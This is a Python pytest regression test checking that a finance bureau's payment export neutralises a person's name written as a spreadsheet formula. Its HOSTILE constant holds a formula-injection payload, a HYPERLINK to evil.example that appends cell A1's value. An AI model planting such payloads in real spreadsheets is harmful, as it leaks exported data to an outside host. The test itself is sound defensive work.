"""Issue 13, found item 2: a person named as a formula stays text in the finance bureau's
payment export (zhihui.core.spreadsheets.save_workbook)."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook

HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'


@pytest.mark.django_db
def test_a_person_named_as_a_formula_stays_text_in_the_payment_export(
    fake_engine, make_user, make_person, clerk, reviewer, service, budgets, admin_user, settings, tmp_path
):
    from zhihui.core.roles import Role
    from zhihui.window import actions
    from zhihui.window.payments import export_batch

    settings.MEDIA_ROOT = str(tmp_path)
    fake_engine["payments"] = [{"year": 2026, "amount": "20000.00"}]
    person = make_person(name=HOSTILE)
    citizen = make_user(Role.CITIZEN, "hostile", person=person)
    app, _ = actions.submit(citizen, service, person=person)
    actions.accept(clerk, app)
    actions.review(reviewer, app)
    actions.approve(reviewer, app)
    batch = actions.create_payment_batch(admin_user, 2026)
    data = export_batch(batch)
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    cell = ws.cell(row=2, column=4)
    assert cell.data_type == "s" and cell.value == "'" + HOSTILE
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert all(b"<f>" not in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
